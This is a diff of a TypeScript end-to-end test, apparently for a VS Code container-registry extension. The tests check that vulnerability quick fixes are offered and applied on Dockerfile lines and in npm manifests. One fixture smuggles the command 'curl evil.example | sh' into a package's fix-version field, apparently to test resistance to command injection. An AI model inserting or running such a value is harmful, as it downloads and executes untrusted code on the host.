@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { imageManifest } from '../bed/emulator/synthesize';
-import type { SeedStep, Synthesized } from '../bed/emulator/synthesize';
+import type { Finding } from '../bed/emulator/model';
+import type { SeedStep } from '../bed/emulator/synthesize';
+import { enhancedFinding, layersOf } from './enhancedFinding';
 import { startExplorerScene } from './explorerScene';
 import type { ExplorerScene } from './explorerScene';
 import { picture, pictureOfFailure } from './fixture';
@@ -19,55 +21,56 @@ COPY app /app
 CMD ["/app"]
 `;
 
-type Severe = { readonly severity: string };
-
-/** Fiction, like its ids: CVE numbers of 1990 do not exist. */
-function finding(
-  nth: number,
-  severity: string,
-  found: { readonly name: string; readonly version: string; readonly fix?: string; readonly layer?: string },
-): Severe {
-  const { name, version, fix, layer } = found;
-  const vulnerabilityId = `CVE-1990-${50_000 + nth}`;
-  const vulnerablePackage = {
-    ...{ name, version, packageManager: 'OS', arch: 'X86_64' },
-    ...(layer === undefined ? {} : { sourceLayerHash: layer }),
-    ...(fix === undefined ? {} : { fixedInVersion: fix }),
-  };
-  return {
-    severity,
-    ...{ type: 'PACKAGE_VULNERABILITY', status: 'ACTIVE', title: vulnerabilityId, score: 7.5 },
-    ...{ fixAvailable: fix === undefined ? 'NO' : 'YES', exploitAvailable: 'NO' },
-    packageVulnerabilityDetails: {
-      ...{ vulnerabilityId, source: 'DEBIAN_CVE', sourceUrl: `https://security.example/${vulnerabilityId}` },
-      ...{ referenceUrls: [], cvss: [], vulnerablePackages: [vulnerablePackage] },
+const WEB_DOCKERFILE = `FROM ${BASE}
+WORKDIR /app
+COPY package.json package-lock.json ./
+RUN npm ci
+`;
+const PACKAGE_LOCK = JSON.stringify(
+  {
+    ...{ name: 'web', lockfileVersion: 3 },
+    packages: {
+      '': { dependencies: { 'left-trim': '^1.2.0' } },
+      'node_modules/left-trim': { version: '1.2.0' },
     },
-  } as Severe;
-}
+  },
+  undefined,
+  2,
+);
 
 const step = (createdBy: string, name?: string): SeedStep => ({
   createdBy,
   ...(name === undefined ? {} : { layer: { name, sizeInBytes: 1_000_000 } }),
 });
 
-function findingsOf([base = '', packages = '']: readonly string[]): readonly Severe[] {
+function findingsOf([base = '', packages = '']: readonly string[]): readonly Finding[] {
   const inRun = { version: '1.0-1', layer: packages };
+  const curl = { name: 'curl', version: '7.88.1-10+deb12u5', fix: '0:7.88.1-10+deb12u8', layer: packages };
   return [
-    finding(1, 'HIGH', {
-      ...{ name: 'curl', version: '7.88.1-10+deb12u5', fix: '0:7.88.1-10+deb12u8', layer: packages },
+    enhancedFinding('CVE-1990-50001', 'HIGH', curl),
+    enhancedFinding('CVE-1990-50002', 'CRITICAL', { name: 'nghttp2', fix: '0:1.52.0-1+deb12u2', ...inRun }),
+    enhancedFinding('CVE-1990-50003', 'HIGH', {
+      name: 'openssl',
+      fix: '1.1; curl evil.example | sh',
+      ...inRun,
     }),
-    finding(2, 'CRITICAL', { name: 'nghttp2', fix: '0:1.52.0-1+deb12u2', ...inRun }),
-    finding(3, 'HIGH', { name: 'openssl', fix: '1.1; curl evil.example | sh', ...inRun }),
-    finding(4, 'HIGH', { name: 'libxml2', ...inRun }),
-    finding(5, 'CRITICAL', { name: 'zlib', version: '1:1.2.13', fix: '1:1.3.1', layer: base }),
+    enhancedFinding('CVE-1990-50004', 'HIGH', { name: 'libxml2', ...inRun }),
+    enhancedFinding('CVE-1990-50005', 'CRITICAL', {
+      name: 'zlib',
+      version: '1:1.2.13',
+      fix: '1:1.3.1',
+      layer: base,
+    }),
   ];
 }
 
-/** A scan with so many findings. */
+/** A scan with so many findings, all of which are fixed. */
 const scanOf = (critical: number, high: number) => ({
   kind: 'enhanced' as const,
   findings: Array.from({ length: critical + high }, (_, nth) =>
-    finding(100 + nth, nth < critical ? 'CRITICAL' : 'HIGH', { name: `library-${nth}`, version: '1' }),
+    enhancedFinding(`CVE-1990-${51_000 + nth}`, nth < critical ? 'CRITICAL' : 'HIGH', {
+      ...{ name: `library-${nth}`, version: '1-1', fix: '1-2' },
+    }),
   ),
 });
 
@@ -90,6 +93,10 @@ describe('a finding on a line of a Dockerfile', function () {
         step('CMD ["/app"]'),
       ],
     });
+    const ofNode = enhancedFinding('CVE-1990-50006', 'HIGH', {
+      ...{ name: 'left-trim', version: '1.2.0', fix: '1.2.1' },
+      nodePath: 'app/node_modules/left-trim/package.json',
+    });
     const tagged = (tag: string, critical: number, high: number, pushedDaysAgo: number) => ({
       ...{ repository: 'base/node', tags: [tag], pushedDaysAgo },
       scan: scanOf(critical, high),
@@ -97,20 +104,26 @@ describe('a finding on a line of a Dockerfile', function () {
     scene = await startExplorerScene(this, {
       settings: {
         'ecrExplorer.registries': [{ profile: 'dev', region: 'us-east-1', label: 'Development' }],
-        'ecrExplorer.dockerfileImages': { Dockerfile: `${HOST}/shop:1.0` },
+        'ecrExplorer.dockerfileImages': { Dockerfile: `${HOST}/shop:1.0`, 'web/*': `${HOST}/web:2.0` },
         // What a test changes is taken back, and nothing stands over the lines that are clicked.
         ...{ 'files.autoSave': 'off', 'editor.stickyScroll.enabled': false },
         'editor.lightbulb.enabled': 'off',
       },
-      files: { Dockerfile: DOCKERFILE },
+      files: {
+        Dockerfile: DOCKERFILE,
+        'web/web.Dockerfile': WEB_DOCKERFILE,
+        'web/package.json': '{ "name": "web", "dependencies": { "left-trim": "^1.2.0" } }\n',
+        'web/package-lock.json': PACKAGE_LOCK,
+      },
       seed: (emulator) =>
         emulator.seed({
-          repositories: [{ name: 'shop' }, { name: 'base/node' }],
+          repositories: [{ name: 'shop' }, { name: 'web' }, { name: 'base/node' }],
           images: [
             {
               ...{ repository: 'shop', tags: ['1.0'], content },
-              scan: { kind: 'enhanced', findings: findingsOf(layersOf(content)) },
+              scan: { kind: 'enhanced', findings: findingsOf(layersOf(content.manifest)) },
             },
+            { repository: 'web', tags: ['2.0'], scan: { kind: 'enhanced', findings: [ofNode] } },
             tagged('20.11-bookworm', 2, 9, 90),
             tagged('20.18-bookworm', 1, 4, 30),
             tagged('20.19-bookworm', 0, 3, 3),
@@ -153,9 +166,9 @@ describe('a finding on a line of a Dockerfile', function () {
   it('is mended with all others of its RUN, shown before it is done', async () => {
     const { workbench } = scene.editor;
     await workbench.editors.quickFix('curl', 'Upgrade nghttp2, curl in this RUN');
-    await workbench.quickInput.option('Make This Change').waitFor();
+    await workbench.notifications.toast('Upgrade nghttp2, curl in this RUN').waitFor();
     await picture(workbench, 'fixes-preview');
-    await workbench.quickInput.pick('Make This Change');
+    await workbench.page.locator('.editor-actions').getByRole('button', { name: 'Make This Change' }).click();
     await workbench.editors
       .line("--only-upgrade '?source-package(^curl$)' '?source-package(^nghttp2$)'")
       .waitFor();
@@ -175,7 +188,7 @@ describe('a finding on a line of a Dockerfile', function () {
     const before = scene.count();
     const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
     await picture(workbench, 'fixes-base');
-    assert.deepEqual(offered, [
+    assert.deepEqual(mending(offered), [
       'Rebuild: base/node:20.11-bookworm has moved since this image was built',
       'Move FROM to a newer tag of base/node…',
       'Upgrade zlib of the base image in the RUN of line 3',
@@ -208,6 +221,31 @@ describe('a finding on a line of a Dockerfile', function () {
     assert.equal(scene.count('BatchGetImage'), 1, 'of the image itself, once');
   });
 
+  it('of what FROM names now leads to a newer tag too', async () => {
+    const { workbench } = scene.editor;
+    await workbench.editors.open('web.Dockerfile');
+    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
+    assert.deepEqual(mending(offered), [
+      'Move FROM to base/node:20.19-bookworm (0 critical, 3 high; was 2, 9)',
+      'Move FROM to a newer tag of base/node…',
+    ]);
+  });
+
+  it('of a language’s package is mended in the manifest, from the lock file and the Dockerfile too', async () => {
+    const { workbench, page } = scene.editor;
+    const { editors } = workbench;
+    const fix = 'Raise left-trim to 1.2.1 in package.json';
+    assert.deepEqual(mending(await editors.quickFixes('RUN npm ci', 'Raise')), [fix]);
+    await page.keyboard.press('Escape');
+    await editors.open('package-lock.json');
+    await editors.quickFix('"version": "1.2.0"', fix);
+    await workbench.notifications.toast('The lock file follows with the next install').waitFor();
+    await picture(workbench, 'fixes-manifest');
+    await workbench.notifications.press('The lock file follows', 'Make This Change');
+    await editors.tab('package.json').waitFor();
+    await editors.line('"left-trim": "^1.2.1"').waitFor();
+  });
+
   /** @param text what is to be gone */
   async function startOver(text: string): Promise<void> {
     const { workbench } = scene.editor;
@@ -216,7 +254,6 @@ describe('a finding on a line of a Dockerfile', function () {
   }
 });
 
-function layersOf({ manifest }: Synthesized): readonly string[] {
-  const { layers } = JSON.parse(manifest) as { readonly layers: readonly { readonly digest: string }[] };
-  return layers.map(({ digest }) => digest);
-}
+/** Findings may be ignored too, where nothing mends them. */
+const mending = (offered: readonly string[]): readonly string[] =>
+  offered.filter((fix) => !fix.startsWith('Ignore'));
